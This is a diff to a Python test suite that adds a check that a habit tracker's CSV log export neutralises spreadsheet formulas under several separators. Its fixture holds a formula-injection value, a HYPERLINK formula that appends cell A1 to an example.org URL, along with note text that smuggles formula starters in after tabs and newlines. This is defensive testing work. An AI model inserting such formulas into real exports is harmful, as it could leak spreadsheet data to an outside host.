@@ -1,5 +1,6 @@
 """An export through the API, and its restore: equal but for ids, also in another account and on another engine."""
 
+import csv
 import hashlib
 import io
 import json
@@ -652,6 +653,21 @@ def test_the_logs_of_a_track_are_a_table_that_no_spreadsheet_runs(alice: User, b
     assert ',"\'-1\nand more",' in lines[2]
     assert make.client(bob).get(path).status_code == 404
     assert make.program(make.key(alice).text).get(path).status_code == 200
+
+
+@pytest.mark.parametrize("separator", ",;\t")
+def test_by_whatever_separator_a_spreadsheet_divides_the_table_no_cell_is_a_formula(
+    alice: User, bob: User, separator: str
+) -> None:
+    """Also where another person has named the habit."""
+    walk = make.habit(bob, name='Run;=HYPERLINK("https://example.org/?"&A1)', is_published=True)
+    track = make.follower(alice, walk)
+    make.log(track, "2026-11-19", note="a\t=1\n-2\r@3; +4")
+    text = make.client(alice).get(f"/api/tracks/{track.pk}/logs.csv").content.decode("utf-8-sig")
+    for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
+        for cell in row:
+            for line in cell.splitlines():
+                assert not line.lstrip(" ").startswith(("=", "+", "-", "@")), (separator, cell)
 
 
 def test_the_parts_of_an_export_are_read_a_habit_at_a_time(alice: User) -> None:
